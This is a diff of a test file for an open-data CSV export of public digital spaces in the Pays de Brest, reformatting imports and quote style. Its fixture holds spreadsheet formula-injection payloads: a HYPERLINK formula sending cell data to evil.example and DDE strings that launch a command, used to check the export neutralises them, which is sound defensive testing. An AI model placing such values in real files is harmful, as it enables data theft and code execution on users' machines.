@@ -1,6 +1,16 @@
 import { describe, expect, it } from 'vitest';
 import { csvObjects, parseCsv } from '../../helpers/csv';
-import { FIELDS, internationalPhone, REQUIRED_FIELDS, toCsv, toJson, toLieu, typologieOf, UNKNOWN_PIVOT, type SpaceSource } from '../../../site/src/lib/opendata';
+import {
+  FIELDS,
+  internationalPhone,
+  REQUIRED_FIELDS,
+  toCsv,
+  toJson,
+  toLieu,
+  typologieOf,
+  UNKNOWN_PIVOT,
+  type SpaceSource,
+} from '../../../site/src/lib/opendata';
 
 const context = { source: 'Réseau EPN du Pays de Brest' };
 
@@ -146,9 +156,9 @@ describe('the CSV export, opened in a spreadsheet', () => {
     name: '=HYPERLINK("https://evil.example/?d="&A2,"Cliquez")',
     type: 'autre',
     siret: '+33 1',
-    summary: '+cmd|\' /C calc\'!A0',
+    summary: "+cmd|' /C calc'!A0",
     description: '-2+3;=1+1',
-    address: '@SUM(1+9)*cmd|\' /C calc\'!A0',
+    address: "@SUM(1+9)*cmd|' /C calc'!A0",
     addressComplement: '\t=1+1',
     postalCode: '\r=1+1',
     commune: '=commune',
